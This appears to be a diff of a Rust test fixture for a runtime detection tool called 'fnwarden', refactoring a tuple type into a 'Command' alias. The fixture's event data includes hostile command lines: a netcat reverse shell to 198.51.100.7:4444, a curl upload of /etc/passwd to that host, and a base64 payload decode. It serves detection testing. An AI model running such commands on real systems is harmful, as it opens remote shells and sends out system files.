@@ -8,7 +8,10 @@ use fnwarden_event::{Ancestor, Endpoint, Event, EventKind, FileAction, NetAction
 /// After the mix's last event, so that event time keeps moving forward for fnwarden.
 const START_NS: i64 = 1_800_000_000_000_000_000;
 
-fn process(exe: &str, args: &[&str], parent: (&str, &[&str])) -> Process {
+/// An executable and its argv.
+type Command<'a> = (&'a str, &'a [&'a str]);
+
+fn process(exe: &str, args: &[&str], parent: Command<'_>) -> Process {
     Process {
         pid: 4242,
         ppid: 4200,
@@ -37,9 +40,9 @@ fn event(i: usize, kind: EventKind, p: Process) -> Event {
 
 /// The probe events, normalised.
 pub fn events() -> Vec<Event> {
-    let python: (&str, &[&str]) = ("/var/lang/bin/python3.11", &["python3.11", "-m", "awslambdaric", "app.handler"]);
-    let shell: (&str, &[&str]) = ("/usr/bin/bash", &["bash", "-c", "x"]);
-    let execs: &[(&str, &[&str], (&str, &[&str]))] = &[
+    let python: Command<'_> = ("/var/lang/bin/python3.11", &["python3.11", "-m", "awslambdaric", "app.handler"]);
+    let shell: Command<'_> = ("/usr/bin/bash", &["bash", "-c", "x"]);
+    let execs: &[(&str, &[&str], Command<'_>)] = &[
         ("/usr/bin/base64", &["base64", "-d", "/tmp/p.b64"], python),
         ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], python),
         ("/usr/bin/curl", &["curl", "-s", "-T", "/etc/passwd", "http://198.51.100.7/u"], shell),
